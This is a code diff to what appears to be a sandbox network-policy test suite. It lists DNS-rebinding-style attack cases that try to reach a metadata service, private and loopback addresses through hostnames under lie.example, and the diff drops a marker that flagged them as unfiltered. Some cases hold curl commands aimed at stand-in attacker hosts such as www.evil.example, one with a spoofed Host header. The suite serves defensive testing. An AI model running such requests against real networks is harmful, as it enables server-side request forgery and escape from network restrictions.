@@ -10,7 +10,6 @@ from rig.cases import expand
 from rig.internet import RESOLVER
 
 HOSTS = f"{RESOLVER}:53/udp\n*.lie.example:80|443|4444|7777\nwww.allowed.example:80|443\n"
-LATER = "answers that name private, loopback and link-local addresses are not yet sifted"
 
 
 def fetch(label, host, **more):
@@ -68,10 +67,10 @@ tcp()"""
 ATTACKS = [
     Attack("its own resolver", OWN_RESOLVER, policy="127.0.0.53:53/udp\nwww.allowed.example:*\n",
            prepare=open_ports),
-    fetch("the metadata service", "metadata.lie.example", open=LATER),
-    fetch("a private address", "private.lie.example", open=LATER),
+    fetch("the metadata service", "metadata.lie.example"),
+    fetch("a private address", "private.lie.example"),
     Attack("loopback", "curl -sS -m 4 http://loopback.lie.example:7777/$MARKER", shell=True, policy=HOSTS,
-           prepare=relay, open=LATER),
+           prepare=relay),
     Attack("an alias out of the zone", "curl -sS -m 4 http://www.evil.example/$MARKER; "
            f"getent hosts alias.lie.example; curl -sS -m 4 -H 'Host: www.evil.example' http://{ATTACKER}/$MARKER",
            shell=True, policy=f"{RESOLVER}:53/udp\ndns:*.lie.example\nwww.evil.example:80\n"
